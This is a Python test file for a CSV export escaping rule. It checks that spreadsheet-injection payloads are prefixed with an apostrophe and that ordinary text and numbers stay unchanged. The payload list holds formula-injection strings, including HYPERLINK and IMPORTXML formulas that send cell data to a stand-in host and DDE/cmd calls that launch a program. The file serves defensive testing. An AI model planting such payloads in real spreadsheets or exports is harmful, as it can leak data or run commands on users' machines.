"""The export escaping rule against a corpus of spreadsheet-injection payloads."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from common.csv_export import escape_cell, write_csv

# Each of these would run (or start to run) as a formula in Excel, LibreOffice or Google Sheets.
PAYLOADS = [
    "=1+1",
    "==1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "+77011234567",  # a phone in E.164 is text and starts with "+"
    "-2+3",
    "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\t",
    "\r",
    "  =1+1",
    " +1",
    "\n=1+1",
    "\u00a0=1+1",  # a no-break space before the formula
    "\uff1d1+1",  # full-width equals sign
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=DDE("cmd";"/C calc";"!A0")',
]

HARMLESS = ["Алматы", "N12345678", "user@example.com", "1+1", "a=b", "", " text", "Қ-1"]


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_every_payload_is_escaped_with_an_apostrophe(payload):
    assert escape_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", HARMLESS, ids=repr)
def test_ordinary_text_is_left_alone(text):
    assert escape_cell(text) == text


@pytest.mark.parametrize("number", [-5, 0, 3.5, -2.25, Decimal("-10.50"), True, date(2026, 3, 21)])
def test_numbers_dates_and_booleans_stay_what_they_are(number):
    assert escape_cell(number) is number


def test_a_written_csv_reads_back_with_every_payload_escaped_and_numbers_intact():
    stream = io.StringIO()

    write_csv(stream, ["=header", "amount"], [[payload, -5] for payload in PAYLOADS])

    text = stream.getvalue()
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0] == ["'=header", "amount"]
    assert [row[0] for row in rows[1:]] == ["'" + payload for payload in PAYLOADS]
    assert {row[1] for row in rows[1:]} == {"-5"}


def test_text_lines_are_the_csv_modules_lines_for_any_cells():
    import random

    from common.csv_export import csv_lines, csv_text_lines

    # Every character that decides quoting or escaping, and plain ones around them.
    alphabet = [
        "a", "Б", "1", ",", '"', "\r", "\n", " ", "\t", "=", "+", "-", "@", "'", "\x01",
        "\u3000", "\xa0", "\x85", "\uff1d", "\uff20",
    ]  # fmt: skip
    draw = random.Random(20).choice  # noqa: S311 - cases, not secrets
    for _case in range(5000):
        rows = [
            tuple("".join(draw(alphabet) for _ in range(draw(range(4)))) for _ in range(6))
            for _ in range(draw(range(1, 5)))
        ]
        assert csv_text_lines(rows) == csv_lines(rows), rows
    plain = [("a@example.kz", "Ким", "Асель", "", "kk", "https://example.kz/u/x/")] * 3
    assert csv_text_lines(plain) == csv_lines(plain)
